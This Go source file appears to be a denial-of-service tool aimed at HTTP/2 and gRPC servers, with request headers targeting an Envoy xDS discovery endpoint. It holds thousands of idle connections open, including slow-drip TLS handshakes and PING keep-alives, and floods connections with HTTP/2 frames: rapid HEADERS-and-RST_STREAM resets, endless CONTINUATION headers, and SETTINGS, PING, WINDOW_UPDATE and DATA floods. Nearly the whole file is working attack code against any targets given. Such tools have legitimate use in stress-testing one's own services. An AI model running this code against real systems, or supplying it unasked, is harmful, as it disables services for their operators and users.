package main

import (
	"bytes"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// idling is what a connection does that opens no stream, by kind.
var idling = map[string]func(net.Conn) error{
	"connect": wait,
	"bytes": func(c net.Conn) error { // of a handshake that does not end
		hello := []byte{22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3}
		for i := 0; ; i++ {
			if _, err := c.Write(hello[i%len(hello) : i%len(hello)+1]); err != nil || i > 60 {
				return err
			}
			time.Sleep(time.Second)
		}
	},
	"tls": func(c net.Conn) error {
		t := client(c)
		if err := t.Handshake(); err != nil {
			return err
		}
		return wait(t)
	},
	"preface": func(c net.Conn) error {
		f, err := greet(c)
		if err != nil {
			return err
		}
		for { // and a PING now and then
			time.Sleep(11 * time.Second)
			if err := f.WritePing(false, [8]byte{1}); err != nil {
				return err
			}
		}
	},
}

func client(c net.Conn) *tls.Conn {
	return tls.Client(c, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
}

func wait(c net.Conn) error { _, err := io.Copy(io.Discard, c); return err }

// idle holds as many connections as it gets.
func idle(args []string) error {
	kind, targets := args[0], args[1:]
	hold := idling[kind]
	if hold == nil {
		return fmt.Errorf("no kind %q of idle connections", kind)
	}
	count := counting("idle "+kind, "opened", "ended", "failed")
	connections(4000, targets, count, func(i int, c net.Conn) {
		count.add("opened")
		if err := hold(c); err != nil {
			count.failed("ended", err)
		} else {
			count.add("ended")
		}
		time.Sleep(100 * time.Millisecond)
	})
	return nil
}

// greet begins HTTP/2; what the server sends is discarded.
func greet(c net.Conn) (*http2.Framer, error) {
	t := client(c)
	if _, err := io.WriteString(t, http2.ClientPreface); err != nil {
		return nil, err
	}
	f := http2.NewFramer(t, t)
	go func() { _, _ = io.Copy(io.Discard, t) }()
	return f, f.WriteSettings()
}

// flood are frames without end, by kind.
var flood = map[string]func(f *http2.Framer, headers []byte, id uint32) error{
	"reset": func(f *http2.Framer, headers []byte, id uint32) error {
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: headers, EndHeaders: true}); err != nil {
			return err
		}
		return f.WriteRSTStream(id, http2.ErrCodeCancel)
	},
	"headers": func(f *http2.Framer, headers []byte, id uint32) error {
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: headers, EndHeaders: true})
	},
	"ping": func(f *http2.Framer, _ []byte, id uint32) error {
		return f.WritePing(false, [8]byte{byte(id), byte(id >> 8), byte(id >> 16)})
	},
	"settings": func(f *http2.Framer, _ []byte, id uint32) error {
		return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535 + id%2})
	},
	"continuation": func(f *http2.Framer, headers []byte, id uint32) error {
		if id == 1 {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: headers})
		}
		return f.WriteContinuation(1, false, literal("x-"+random(4), random(4000)))
	},
	"window": func(f *http2.Framer, _ []byte, _ uint32) error { return f.WriteWindowUpdate(0, 1) },
	"data": func(f *http2.Framer, headers []byte, id uint32) error {
		if id == 1 {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: headers, EndHeaders: true})
		}
		return f.WriteData(1, false, make([]byte, 1000))
	},
}

func literal(name, value string) []byte {
	var b bytes.Buffer
	_ = hpack.NewEncoder(&b).WriteField(hpack.HeaderField{Name: name, Value: value, Sensitive: true})
	return b.Bytes()
}

func requestHeaders() []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	e.SetMaxDynamicTableSize(0)
	for _, h := range [][2]string{
		{":method", "POST"}, {":scheme", "https"}, {":authority", "outrider"},
		{":path", "/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources"},
		{"content-type", "application/grpc"}, {"te", "trailers"}, {"authorization", "Bearer junk"},
	} {
		_ = e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1], Sensitive: true})
	}
	return b.Bytes()
}

// frames floods connections with frames of a kind, or of all kinds.
func frames(args []string) error {
	kind, targets := args[0], args[1:]
	var kinds []func(*http2.Framer, []byte, uint32) error
	for name, f := range flood {
		if kind == "all" || kind == name {
			kinds = append(kinds, f)
		}
	}
	if len(kinds) == 0 {
		return fmt.Errorf("no kind %q of frames", kind)
	}
	headers := requestHeaders()
	count := counting("frames "+kind, "sent", "ended", "failed")
	connections(40, targets, count, func(i int, c net.Conn) {
		f, err := greet(c)
		if err != nil {
			count.failed("failed", err)
			time.Sleep(10 * time.Millisecond)
			return
		}
		write := kinds[i%len(kinds)]
		for id := uint32(1); id < 1<<30; id += 2 {
			_ = c.SetWriteDeadline(time.Now().Add(20 * time.Second))
			if err := write(f, headers, id); err != nil {
				count.failed("ended", err)
				return
			}
			count.add("sent")
		}
	})
	return nil
}
